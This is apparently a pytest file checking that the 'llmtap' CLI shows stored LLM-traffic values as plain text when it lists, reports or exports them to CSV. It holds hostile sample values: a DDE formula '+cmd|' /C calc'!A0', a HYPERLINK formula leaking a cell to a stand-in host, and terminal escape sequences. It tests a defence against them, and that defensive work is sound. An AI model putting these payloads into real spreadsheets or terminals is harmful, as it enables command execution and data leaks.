"""Stored values are data, never markup, terminal control or a spreadsheet formula (SPEC §3,
§6). A HAR whose team headers, and whose upstream replies' model names, answers and tool
names, carry Rich markup, terminal escapes (ESC [ …, OSC, BEL, CR, the 8-bit CSI) and
formula starts is imported with the real command; then the real `llmtap log`, `show`,
`show --conversation`, `report`, `export` print them: as text in a terminal, verbatim in
JSON, and in CSV with a leading `'` wherever a text cell would start a formula."""

from __future__ import annotations

import csv
import io
import json
import os
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from llmtap.analytics.render import csv_cell
from tests.helpers import CliResult, llmtap

KEY = "sk-ant-api03-HOSTILEOUTPUTCANARY00000000000000000000000007"
MARKUP_TEAM = "[/bold]"
FORMULA_TEAM = '=HYPERLINK("http://example.invalid/?"&A1,"open me")'
MODEL = "[/bold][red]claude[/red]\x1b]0;owned\x07\x1b[2J\r\x9b31m"
TEXT = "answer [/bold]\x1b[31m red\x07\rX\r\nline two\n\tindented"
TOOL = "@SUM(A1:A9)"
# A header value loses its leading white space on the way in: the answers carry those.
OTHERS = (("+cmd|' /C calc'!A0", "\t=1+1"), ("-1+2", "\r=1+1"), ("-42", "  =1+1"), ("@team", "@x"))
TERMINAL_CONTROL = ("\x1b", "\x07", "\r", "\x9b", "\x00")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _entry(team: str, model: str, text: str, at: datetime) -> dict[str, Any]:
    request = {
        "model": model,
        "max_tokens": 64,
        "messages": [{"role": "user", "content": f"hi {text}"}],
        "tools": [{"name": "read_file", "input_schema": {"type": "object"}}],
    }
    response = {
        "id": f"msg_{at:%H%M%S}",
        "type": "message",
        "role": "assistant",
        "model": model,
        # A tool the request did not declare: `report tools --list` lists it (unknown_tool).
        "content": [
            {"type": "text", "text": text},
            {"type": "tool_use", "id": f"toolu_{at:%H%M%S}", "name": TOOL, "input": {"cell": "=1+1"}},
        ],
        "stop_reason": "tool_use",
        "usage": {"input_tokens": 12, "output_tokens": 7},
    }
    return {
        "startedDateTime": at.isoformat().replace("+00:00", "Z"),
        "time": 40.0,
        "request": {
            "method": "POST",
            "url": "https://api.anthropic.com/v1/messages",
            "httpVersion": "HTTP/1.1",
            "headers": [
                {"name": "content-type", "value": "application/json"},
                {"name": "x-api-key", "value": KEY},
                {"name": "X-LLMTap-Team", "value": team},
            ],
            "queryString": [],
            "cookies": [],
            "headersSize": -1,
            "bodySize": -1,
            "postData": {"mimeType": "application/json", "text": json.dumps(request)},
        },
        "response": {
            "status": 200,
            "statusText": "OK",
            "httpVersion": "HTTP/1.1",
            "headers": [{"name": "content-type", "value": "application/json"}],
            "cookies": [],
            "content": {"size": -1, "mimeType": "application/json", "text": json.dumps(response)},
            "redirectURL": "",
            "headersSize": -1,
            "bodySize": -1,
        },
        "cache": {},
        "timings": {"send": 1, "wait": 30, "receive": 9},
    }


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> tuple[str, dict[str, str]]:
    folder = tmp_path_factory.mktemp("hostile-output")
    env = dict(os.environ, LLMTAP_HOME=str(folder / "home"))
    url = f"sqlite:///{folder / 'store.db'}"
    start = datetime(2026, 11, 2, 9, 0, tzinfo=UTC)
    minute = timedelta(minutes=1)
    entries = [_entry(MARKUP_TEAM, MODEL, TEXT, start), _entry(FORMULA_TEAM, TOOL, "=1+1", start + minute)]
    entries += [_entry(team, "-1+2", text, start + (2 + i) * minute) for i, (team, text) in enumerate(OTHERS)]
    har = folder / "hostile.har"
    har.write_text(
        json.dumps({"log": {"version": "1.2", "creator": {"name": "t", "version": "1"}, "entries": entries}})
    )
    imported = llmtap("import", str(har), "--bodies", "full", "--db", url, env=env, process=True)
    assert imported.code == 0, imported.err
    return url, env


def run(store: tuple[str, dict[str, str]], *args: str, process: bool = False) -> CliResult:
    url, env = store
    result = llmtap(*args, "--db", url, env=env, process=process)
    assert result.code == 0, (args, result.code, result.err)
    return result


def exchange_id(store: tuple[str, dict[str, str]], team: str) -> str:
    rows = json.loads(run(store, "log", "--format", "json", "--team", team).out)
    assert len(rows) == 1, rows
    return str(rows[0]["id"])


def assert_plain_text(out: str) -> None:
    for char in TERMINAL_CONTROL:
        assert char not in out, f"{char!r} reached the terminal"


def test_log_table_shows_markup_and_escapes_as_text(store):
    out = run(store, "log", process=True).out  # exit 70 with MarkupError before
    assert_plain_text(out)
    assert MARKUP_TEAM in out
    assert "[/bold][red]claude[/red]\\x1b]0;o" in out  # as much as the column's width shows


def test_show_shows_every_value_as_text_and_keeps_answer_lines(store):
    out = run(store, "show", exchange_id(store, MARKUP_TEAM), process=True).out
    assert_plain_text(out)
    assert f"team             {MARKUP_TEAM}" in out
    assert "\\x1b]0;owned\\x07" in out  # the model, in the request and answer sections
    # The answer keeps its lines (CRLF is one newline, a tab stays as spaces); a lone CR
    # (which would rewrite the line) and the escapes are shown.
    lines = out.splitlines()
    first = next(i for i, line in enumerate(lines) if "answer [/bold]\\x1b[31m red\\x07\\x0dX" in line)
    assert lines[first + 1].strip() == "line two"
    assert lines[first + 2].strip() == "indented"
    assert f"tool call {TOOL}" in out
    assert '{"cell":"=1+1"}' in out


def test_show_conversation_and_json_formats(store):
    ident = exchange_id(store, MARKUP_TEAM)
    assert_plain_text(run(store, "show", ident, "--conversation").out)
    shown = run(store, "show", ident, "--format", "json").out
    assert "\x9b" not in shown  # JSON escapes the C1 controls as well as the C0 ones
    data = json.loads(shown)
    assert data["who"]["team"] == MARKUP_TEAM and data["answer"]["model"] == MODEL  # the data itself, verbatim
    assert data["answer"]["text"] == TEXT
    listed = run(store, "log", "--format", "jsonl").out
    assert "\x9b" not in listed and MODEL in [json.loads(line)["model"] for line in listed.splitlines()]


@pytest.mark.parametrize(
    "args",
    [
        ("report", "usage", "--by", "team,model"),
        ("report", "cost", "--by", "team,model"),
        ("report", "tools", "--by", "team"),
        ("report", "finish", "--by", "team,model"),
    ],
)
def test_report_tables_show_text(store, args):
    out = run(store, *args).out
    assert_plain_text(out)
    assert MARKUP_TEAM in out


def _csv_cells(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) > 1, text
    return rows


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell.lstrip(" \n").startswith(FORMULA_START):
                assert csv_cell(cell) == cell, f"a formula in a CSV cell: {cell!r}"
                float(cell)  # only a number may start so


def test_export_csv_cells_never_start_a_formula(store):
    rows = _csv_cells(run(store, "export", "--format", "csv").out)  # in-process: a CR stays a CR
    _assert_no_formula(rows)
    header, body = rows[0], rows[1:]
    teams = {row[header.index("team")] for row in body}
    assert {"'" + FORMULA_TEAM, "'+cmd|' /C calc'!A0", "'-1+2", "'@team"} <= teams
    assert {MARKUP_TEAM, "-42"} <= teams  # not a formula; a number stays a number
    assert {row[header.index("model")] for row in body} >= {"'" + TOOL, "'-1+2", MODEL}
    assert {row[header.index("text")] for row in body} >= {"'=1+1", "'\t=1+1", "'\r=1+1", "'  =1+1", "'@x"}
    assert any(TOOL in row[header.index("tool_calls")] for row in body)  # JSON text: starts with [


@pytest.mark.parametrize(
    "args",
    [
        ("report", "usage", "--by", "team,model"),
        ("report", "cost", "--by", "team,model"),
        ("report", "tools", "--list"),
        ("report", "errors", "--by", "team"),
    ],
)
def test_report_csv_cells_never_start_a_formula(store, args):
    rows = _csv_cells(run(store, *args, "--format", "csv").out)
    _assert_no_formula(rows)
    flat = {cell for row in rows for cell in row}
    assert "'" + FORMULA_TEAM in flat
    if "--list" in args:
        assert "'" + TOOL in flat


@pytest.mark.parametrize(
    "value,cell",
    [
        ("=1+1", "'=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        (" =1", "' =1"),
        ("-0.5", "-0.5"),
        ("-1e-05", "-1e-05"),
        ("+3", "+3"),
        (-5, -5),
        (Decimal("-0.25"), Decimal("-0.25")),
        (None, None),
        ("team-a", "team-a"),
        ("", ""),
    ],
)
def test_csv_cell(value, cell):
    assert csv_cell(value) == cell


def test_no_key_in_anything_shown(store):
    url, _ = store
    shown = [run(store, "log", "--format", "json").out, run(store, "export", "--format", "csv").out]
    shown.append(run(store, "show", exchange_id(store, MARKUP_TEAM)).out)
    assert "HOSTILEOUTPUTCANARY" not in "\n".join(shown)
    assert b"HOSTILEOUTPUTCANARY" not in Path(url.removeprefix("sqlite:///")).read_bytes()
